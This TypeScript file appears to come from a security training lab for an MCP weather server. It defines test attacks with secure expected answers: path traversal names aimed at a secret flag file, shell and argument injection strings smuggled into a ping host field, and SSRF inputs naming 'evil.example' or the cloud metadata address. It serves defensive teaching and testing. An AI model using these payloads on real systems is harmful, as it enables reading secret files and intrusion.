/**
 * Attacks in which data becomes something else: a path, a command, a URL. What becomes SQL stands in
 * `sql-injection.ts`, what becomes an order to a model in `prompt-injection.ts` and
 * `tool-trust.ts`.
 */
import { z } from 'zod';
import {
  defineAttack,
  type Attack,
  type Findings,
  type LegitimateUse,
  type TopicCatalogue,
} from '../../../lab/attack.ts';
import type { LabSession, LabReply } from '../../../lab/protocol.ts';
import { promptAttacks, promptUses, textOf } from './prompt-injection.ts';
import { cwe, link, mcp, rfc } from '../references.ts';
import { complainAboutInvalidInput, describeReply, errorCodeOf, succeeded } from '../replies.ts';
import { sqlAttacks, sqlUses } from './sql-injection.ts';
import { toolAttacks, toolUses } from './tool-trust.ts';
import { callAsUser, complainAboutAnswer, excerpt, tryEach } from './try-inputs.ts';

const tools = mcp('server/tools', 'security-considerations', 'Tools, Security Considerations');

// ---------------------------------------------------------------------------------------- files

interface Names {
  names: string[];
}
const names: z.ZodType<Names> = z.strictObject({
  names: z.array(z.string().max(2000)).min(1).max(12),
});

const readReport = (lab: LabSession, name: string): Promise<LabReply> =>
  callAsUser(lab, 'read_report', { name });

/** The content of the secret file in the answer is the breach. */
const readSecrets = ({ names }: Names, lab: LabSession): Promise<Findings> =>
  tryEach(names, async (name) => {
    const { file } = await lab.canaries();
    const reply = await readReport(lab, name);
    if (reply.text.includes(file)) {
      return {
        breaches: [`The report “${excerpt(name)}” is a secret file beside the report folder.`],
        complaints: [],
      };
    }
    const [wasThere, wasNot] = [
      reply,
      await readReport(lab, name.replace('flag', `no-such-${lab.nonce}`)),
    ].map((answer) => whatIsSaid(answer).replaceAll(/flag|no-such-\w+/g, ''));
    const tells =
      wasThere !== wasNot
        ? [
            'A file outside that exists is answered otherwise than one that does not, so that callers can find out which files there are.',
          ]
        : [];
    return { breaches: [], complaints: [...complainAboutAnswer(reply), ...tells] };
  });

/** Code and message of an error, without what names the one request. */
function whatIsSaid(reply: LabReply): string {
  const { result } = (reply.json ?? {}) as { result?: { content?: { text?: string }[] } };
  const text = result?.content?.[0]?.text ?? reply.text;
  return text.replaceAll(/"request_id":\s*"[^"]*"/g, '');
}

const reportsWork = async (lab: LabSession): Promise<string[]> => {
  const reply = await readReport(lab, '2026-03-paris.txt');
  return succeeded(reply)
    ? []
    : [`the report 2026-03-paris.txt was refused: ${describeReply(reply)}`];
};

const file = {
  level: 'core',
  payload: names,
  ordinaryUse: reportsWork,
  fire: readSecrets,
} as const;

const pathAttacks: Attack[] = [
  defineAttack<Names>({
    ...file,
    id: 'path-dotdot',
    title: 'Up and over',
    story:
      'The attacker names a report that begins with the way out of the folder. Spellings of it slip past filters: encoded, with backslashes, or so that removing `../` leaves another one.',
    secureAnswer:
      'Not found, whatever lies there. The path is resolved first and compared afterwards.',
    lessonAnchor: 'paths',
    references: [cwe(22, 'Path Traversal'), cwe(23, 'Relative Path Traversal')],
    variants: {
      'one up': { names: ['../data-secret/flag.txt'] },
      'down and two up': { names: ['archive/../../data-secret/flag.txt'] },
      'all the way up': { names: ['../../../srv/weather/data-secret/flag.txt'] },
      'past filters': {
        names: [
          '....//data-secret/flag.txt',
          '..././data-secret/flag.txt',
          '....//....//weather/data-secret/flag.txt',
          '%2e%2e%2fdata-secret%2fflag.txt',
          '%252e%252e%252fdata-secret%252fflag.txt',
          '..\\data-secret\\flag.txt',
          '．．/data-secret/flag.txt',
          './/..//data-secret/flag.txt',
        ],
      },
    },
  }),

  defineAttack<Names>({
    ...file,
    id: 'path-absolute',
    title: 'From the root',
    story:
      'A path that begins at the root. To `path.join` it is a path below the folder like any other, and so are its dots; `path.resolve` drops the folder and starts anew.',
    secureAnswer: 'Not found.',
    lessonAnchor: 'paths',
    references: [cwe(36, 'Absolute Path Traversal')],
    variants: {
      'absolute path': {
        names: ['/srv/weather/data-secret/flag.txt', '/../data-secret/flag.txt'],
      },
      'through the folder': {
        names: [
          '/srv/weather/data/../data-secret/flag.txt',
          '//srv/weather/data-secret/flag.txt',
          '/../../../srv/weather/data-secret/flag.txt',
        ],
      },
      'a file URL, a home, a drive': {
        names: [
          'file:///srv/weather/data-secret/flag.txt',
          '~/../../srv/weather/data-secret/flag.txt',
          'C:\\srv\\weather\\data-secret\\flag.txt',
          '/./../data-secret/flag.txt',
        ],
      },
    },
  }),

  defineAttack<Names>({
    ...file,
    id: 'path-prefix-sibling',
    title: 'A folder whose name begins alike',
    story:
      'The served folder is `/srv/weather/data`. The secret one beside it is `/srv/weather/data-secret`, and to `startsWith` that begins with the right letters.',
    secureAnswer:
      'Not found. Paths are compared segment by segment: with `path.relative`, or with a separator at the end.',
    lessonAnchor: 'compare-segments',
    references: [cwe(22, 'Path Traversal'), cwe(187, 'Partial String Comparison')],
    variants: {
      sibling: { names: ['../data-secret/flag.txt'] },
      'sibling, by a detour': {
        names: ['../data/../data-secret/flag.txt', '../data/archive/../../data-secret/flag.txt'],
      },
      'its letters alone': { names: ['-secret/flag.txt', '/../data-secret/flag.txt'] },
    },
  }),

  defineAttack<Names>({
    ...file,
    id: 'path-symlink',
    title: 'A link in the folder',
    story:
      'Somebody once made a link in the report folder, `latest.txt`. Its name is perfectly good, and it leads out. Whatever only looks at names lets it through.',
    secureAnswer:
      'Not found: `realpath` says where the link leads, and that is compared with the folder.',
    lessonAnchor: 'follow-links-first',
    references: [cwe(59, 'Link Following'), cwe(61, 'UNIX Symbolic Link Following')],
    variants: {
      link: { names: ['latest.txt'] },
      'link, by a detour': { names: ['./latest.txt', 'archive/../latest.txt'] },
    },
  }),
];

// ------------------------------------------------------------------------------------- commands

interface Hosts {
  hosts: string[];
  /** A report to read afterwards, which a command may have made. */
  readBack?: string | undefined;
}
const hosts: z.ZodType<Hosts> = z.strictObject({
  hosts: z.array(z.string().max(2000)).min(1).max(12),
  readBack: z.string().max(200).optional(),
});

const ping = (lab: LabSession, host: string): Promise<LabReply> =>
  callAsUser(lab, 'ping_station', { host });

/** The content of the secret file, in the answer or in a report that was not there before. */
const runCommands = ({ hosts, readBack }: Hosts, lab: LabSession): Promise<Findings> =>
  tryEach(hosts, async (host) => {
    const { file } = await lab.canaries();
    const reply = await ping(lab, host);
    const copy = readBack === undefined ? undefined : await readReport(lab, readBack);
    const hasSecret = [reply, copy].some((answer) => answer?.text.includes(file));
    return hasSecret
      ? {
          breaches: [`Pinging “${excerpt(host)}” gave away a secret file.`],
          complaints: [],
        }
      : { breaches: [], complaints: complainAboutAnswer(reply) };
  });

const pingWorks = async (lab: LabSession): Promise<string[]> => {
  const reply = await ping(lab, 'paris-1.stations.example');
  return succeeded(reply) ? [] : [`paris-1 was not pinged: ${describeReply(reply)}`];
};

const commandAttacks: Attack[] = [
  defineAttack<Hosts>({
    id: 'cmd-shell',
    title: 'A host with a command behind it',
    level: 'core',
    story:
      'The host is pasted into a line for the shell. A semicolon, a pipe, a line end, a dollar sign with brackets: the shell knows many ways to begin a second command, also between quotes.',
    secureAnswer:
      'Invalid input, or one host of that odd name which nobody knows. With an argument vector there is no shell that could read it.',
    lessonAnchor: 'commands',
    references: [cwe(78, 'OS Command Injection'), tools],
    payload: hosts,
    ordinaryUse: pingWorks,
    variants: {
      semicolon: { hosts: ['x; cat ../data-secret/flag.txt'] },
      substitution: { hosts: ['$(cat ../data-secret/flag.txt)'] },
      backticks: { hosts: ['`cat ../data-secret/flag.txt`'] },
      pipe: { hosts: ['x | cat ../data-secret/flag.txt', 'x || cat ../data-secret/flag.txt'] },
      and: { hosts: ['paris-1.stations.example && cat ../data-secret/flag.txt'] },
      background: { hosts: ['x & cat ../data-secret/flag.txt'] },
      'line end': {
        hosts: [
          'paris-1.stations.example\ncat ../data-secret/flag.txt',
          'x\ncat ../data-secret/flag.txt',
        ],
      },
      'without blanks': { hosts: ['x;cat<../data-secret/flag.txt', '$(<../data-secret/flag.txt)'] },
      'out of quotes': {
        hosts: [
          '"; cat ../data-secret/flag.txt; "',
          "'; cat ../data-secret/flag.txt; '",
          "x'; cat ../data-secret/flag.txt #",
          'x"; cat ../data-secret/flag.txt #',
          "\\'; cat ../data-secret/flag.txt #",
          '-c 1 x; cat ../data-secret/flag.txt',
        ],
      },
      'nothing to see': {
        hosts: ['paris-1.stations.example; cp ../data-secret/flag.txt copy.txt'],
        readBack: 'copy.txt',
      },
    },
    fire: runCommands,
  }),

  defineAttack<Hosts>({
    id: 'cmd-argument',
    title: 'A host that is an option',
    level: 'core',
    story:
      'No shell is needed. fping reads what begins with a hyphen as an option, and `-f` as the file to read host names from. It does not know those hosts, and says so, line by line.',
    secureAnswer:
      'Invalid input, or an unknown host. `--` ends the options of most programs; a host name never begins with a hyphen.',
    lessonAnchor: 'options-are-arguments-too',
    references: [
      cwe(88, 'Argument Injection'),
      link('fping(8)', 'https://fping.org/fping.1.html'),
      link(
        'POSIX, Utility Syntax Guidelines (10: --)',
        'https://pubs.opengroup.org/onlinepubs/9799919799/basedefs/V1_chap12.html#tag_12_02',
      ),
    ],
    payload: hosts,
    ordinaryUse: pingWorks,
    variants: {
      'a file': { hosts: ['-f/srv/weather/data-secret/flag.txt'] },
      'by its long name': { hosts: ['--file=/srv/weather/data-secret/flag.txt'] },
      'letters and dots only': { hosts: ['-flatest.txt'] },
      'behind a blank': {
        hosts: [
          ' -f/srv/weather/data-secret/flag.txt',
          '\t-flatest.txt',
          '\n-flatest.txt',
          '\u00a0-flatest.txt',
        ],
      },
      'behind other hyphens': {
        hosts: [
          '--f/srv/weather/data-secret/flag.txt',
          '---file=/srv/weather/data-secret/flag.txt',
          'paris-1.stations.example -flatest.txt',
          '-f../data-secret/flag.txt',
        ],
      },
    },
    fire: runCommands,
  }),
];

// ------------------------------------------------------------------------------ requests upstream

interface Cities {
  cities: string[];
}
const cities: z.ZodType<Cities> = z.strictObject({
  cities: z.array(z.string().max(300)).min(1).max(12),
});

/** Each city must be asked for as it is, in one segment of the path, at our upstream only. */
const askAstray = ({ cities }: Cities, lab: LabSession): Promise<Findings> =>
  tryEach(cities, async (city) => {
    const reply = await callAsUser(lab, 'get_weather', { city, units: 'metric' });
    const requests = (await lab.tape()).filter(({ requestId }) => requestId === reply.requestId);
    for (const entry of requests) {
      if (entry.kind !== 'upstream') continue;
      const { host, pathname } = new URL(entry.url);
      const shown = entry.keyShown ? ', and our API key went along' : '';
      if (!entry.expected) {
        return {
          breaches: [`The server asked ${host} for ${excerpt(pathname)}${shown}.`],
          complaints: [],
        };
      }
      const asked = decodeURIComponent(pathname.split('/').at(-1) ?? '');
      const cameUp = Array.from(asked).find(
        (character) => '/\\?#'.includes(character) && !city.includes(character),
      );
      if (cameUp !== undefined) {
        return {
          breaches: [
            `The city “${excerpt(city)}” was decoded on its way: upstream reads “${excerpt(asked)}”, with a “${cameUp}” in it${shown}.`,
          ],
          complaints: [],
        };
      }
    }
    return { breaches: [], complaints: complainAboutAnswer(reply) };
  });

const ssrfAttacks: Attack[] = [
  defineAttack<Cities>({
    id: 'ssrf',
    title: 'A city that is an address',
    level: 'core',
    story:
      'The city becomes part of a URL. With two slashes in front it names another host, with dots it climbs to other paths of the weather service, with a question mark it adds parameters. The server sends its API key wherever it goes.',
    secureAnswer:
      'One request for one segment, `current/{city}` with the city encoded, which nobody knows; or invalid input and no request at all.',
    lessonAnchor: 'urls',
    references: [
      cwe(918, 'Server-Side Request Forgery'),
      rfc(3986, '3.3'),
      link(
        'OWASP API7:2023 Server Side Request Forgery',
        'https://owasp.org/API-Security/editions/2023/en/0xa7-server-side-request-forgery/',
      ),
    ],
    payload: cities,
    variants: {
      'another host': { cities: ['//evil.example/x'] },
      'an address inside': { cities: ['http://169.254.169.254/latest/meta-data/'] },
      'a host behind user info': {
        cities: [
          '//weather-api.example@evil.example/',
          'http://weather-api.example:80@evil.example/',
        ],
      },
      'another path': { cities: ['../admin'] },
      'a path behind a city': { cities: ['Paris/../../admin'] },
      'from the root': { cities: ['/admin'] },
      'a parameter': { cities: ['Paris?key=1'] },
      'a fragment': { cities: ['Paris#/admin'] },
      'dots alone': { cities: ['..', '.', ' ..', '..\t'] },
      backslashes: { cities: ['..\\..\\admin', '\\\\evil.example\\x'] },
      encoded: {
        cities: ['%2e%2e%2fadmin', '%2e%2e/admin', 'Paris%3fkey=1', 'Paris%2f..%2f..%2fadmin'],
      },
      'with a tab inside': { cities: ['.\t./admin', '/\t/evil.example/x', ' ../admin'] },
      'past filters': {
        cities: ['....//admin', '..././admin', 'Paris;/../admin', 'HTTP:evil.example', '/admin'],
      },
    },
    fire: askAstray,
  }),
];

// ----------------------------------------------------------------------------------- ordinary use

const uses: LegitimateUse[] = [
  {
    id: 'serves-reports',
    title: 'Serves the reports there are, and only says of others that they are missing',
    why: 'A report of any city is read by its name. For one that is not there a model needs an answer that says so.',
    lessonAnchor: 'paths',
    references: [cwe(22, 'Path Traversal')],
    worksOnBaseline: true,
    async try(lab) {
      const problems: string[] = [];
      for (const [name, start] of [
        ['2026-03-paris.txt', 'Paris (FR), 2026-03'],
        ['2026-03-tokyo.txt', '東京 (JP), 2026-03'],
        ['2026-03-sao-paulo.txt', 'São Paulo (BR), 2026-03'],
      ] as const) {
        const reply = await readReport(lab, name);
        const { result } = (reply.json ?? {}) as {
          result?: { structuredContent?: { report?: unknown } };
        };
        const report = textOf(result?.structuredContent?.report)?.normalize('NFKC');
        if (!report?.startsWith(start) || !report.includes('mean temperature')) {
          problems.push(`The report ${name} is not what was served: ${describeReply(reply)}`);
        }
      }
      for (const name of ['no-such-report.txt', '', '.', 'archive', 'no\u0000.txt']) {
        const reply = await readReport(lab, name);
        const complaints = complainAboutInvalidInput(reply);
        problems.push(...complaints.map((complaint) => `Asked for “${name}”: ${complaint}`));
      }
      return problems;
    },
  },
  {
    id: 'says-what-is-missing',
    title: 'Says NOT_FOUND for a report that is not there',
    why: 'A model that reads INTERNAL tries again, and one that reads INVALID_INPUT looks for a mistake in its spelling.',
    lessonAnchor: 'paths',
    references: [cwe(22, 'Path Traversal')],
    worksOnBaseline: true,
    async try(lab) {
      const problems: string[] = [];
      for (const name of ['2026-04-paris.txt', '1999-12-tokyo.txt']) {
        const reply = await readReport(lab, name);
        const code = errorCodeOf(reply);
        // A message without a code is what the error handling of topic 13 will make of it.
        if (succeeded(reply) || (code !== undefined && code !== 'NOT_FOUND')) {
          problems.push(
            `Asked for “${name}”, it says ${code ?? describeReply(reply)}, where NOT_FOUND is so.`,
          );
        }
      }
      return problems;
    },
  },
  {
    id: 'pings-stations',
    title: 'Pings stations, in capitals too, and says that others are not known',
    why: 'Host names have digits, hyphens and dots, and upper case means nothing in them.',
    lessonAnchor: 'commands',
    references: [rfc(1123, '2.1'), rfc(4343, '2')],
    worksOnBaseline: true,
    async try(lab) {
      const problems: string[] = [];
      for (const host of [
        'paris-1.stations.example',
        'PARIS-2.Stations.Example',
        's-hertogenbosch-1.stations.example',
        'under-score-ridge.stations.example',
        '100-mile-house-1.stations.example',
      ]) {
        const reply = await ping(lab, host);
        if (!succeeded(reply)) problems.push(`${host} was not pinged: ${describeReply(reply)}`);
        else if (!reply.text.toLowerCase().includes(host.toLowerCase())) {
          problems.push(`The answer of ${host} does not name it: ${describeReply(reply)}`);
        }
      }
      for (const host of ['192.0.2.7', '2001:db8::7', 'nobody.example']) {
        const complaints = complainAboutInvalidInput(await ping(lab, host));
        problems.push(...complaints.map((complaint) => `Asked for ${host}: ${complaint}`));
      }
      return problems;
    },
  },
  {
    id: 'weather-for-every-name',
    title: 'Asks upstream for Xi’an, São Paulo and 東京',
    why: 'A city is encoded once and arrives as it was. What cannot be encoded is an error that the model can read.',
    lessonAnchor: 'urls',
    references: [rfc(3986, '2.1'), rfc(3629, '3')],
    worksOnBaseline: true,
    async try(lab) {
      const problems: string[] = [];
      for (const city of ['Paris', "Xi'an", "St. John's", 'São Paulo', '東京', 'Saint-Étienne']) {
        for (const [tool, args] of [
          ['get_weather', { city, units: 'metric' }],
          ['get_forecast', { city, days: 2, units: 'metric' }],
        ] as const) {
          const reply = await callAsUser(lab, tool, args);
          if (!succeeded(reply)) problems.push(`${tool} for ${city}: ${describeReply(reply)}`);
        }
      }
      for (const city of ['\ud800', 'Nowhere at all', '100% Paris']) {
        const reply = await callAsUser(lab, 'get_weather', { city, units: 'metric' });
        const complaints = complainAboutInvalidInput(reply);
        problems.push(...complaints.map((complaint) => `Asked for “${city}”: ${complaint}`));
      }
      return problems;
    },
  },
];

export const catalogue: TopicCatalogue = {
  attacks: [
    ...sqlAttacks,
    ...pathAttacks,
    ...commandAttacks,
    ...ssrfAttacks,
    ...promptAttacks,
    ...toolAttacks,
  ],
  uses: [...sqlUses, ...uses, ...promptUses, ...toolUses],
};
